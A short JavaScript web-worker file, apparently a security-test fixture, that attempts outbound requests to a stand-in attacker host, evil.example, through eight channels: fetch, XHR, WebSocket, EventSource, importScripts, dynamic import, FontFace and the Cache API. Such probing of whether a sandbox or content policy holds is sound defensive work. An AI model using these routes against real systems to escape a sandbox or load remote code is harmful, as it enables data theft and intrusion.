// Served as a worker of the app's origin: every way out of a worker.
const CHANNELS = {
  workerFetch: (url) => fetch(url, { mode: 'no-cors' }),
  workerXhr: (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  workerWebSocket: (url) => new WebSocket(url.replace('http', 'ws')),
  workerEventSource: (url) => new EventSource(url),
  workerImportScripts: (url) => importScripts(url),
  workerImport: (url) => import(url),
  workerFont: (url) => new FontFace('probe', `url(${url})`).load(),
  workerCache: async (url) => (await caches.open('probe')).add(new Request(url, { mode: 'no-cors' })),
};

const tryAll = async () => {
  for (const [channel, attempt] of Object.entries(CHANNELS)) {
    try {
      void Promise.resolve(attempt(`http://${channel}.evil.example/${channel}`)).catch(() => undefined);
    } catch {
      // Refused.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 1000));
  postMessage(Object.keys(CHANNELS));
};
void tryAll();
